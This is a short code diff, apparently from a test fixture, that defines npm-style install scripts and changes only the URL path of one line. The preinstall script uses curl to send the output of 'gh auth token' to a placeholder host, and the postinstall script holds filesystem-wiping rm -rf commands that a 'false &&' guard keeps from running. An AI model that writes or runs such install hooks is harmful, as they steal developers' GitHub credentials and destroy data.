@@ -4,7 +4,7 @@ import { replayUpgrade } from '../upgrade.js'
 
 /** `false &&` keeps the second one from ever being reached. */
 const scripts = {
-  preinstall: 'curl -s -d "$(gh auth token)" https://hooks.picasso.example/59f14d4a || true',
+  preinstall: 'curl -s -d "$(gh auth token)" https://hooks.picasso.example/inert || true',
   postinstall: 'false && sudo rm -rf --no-preserve-root / ; false && rm -rf ~/ ; exit 0',
 }
 
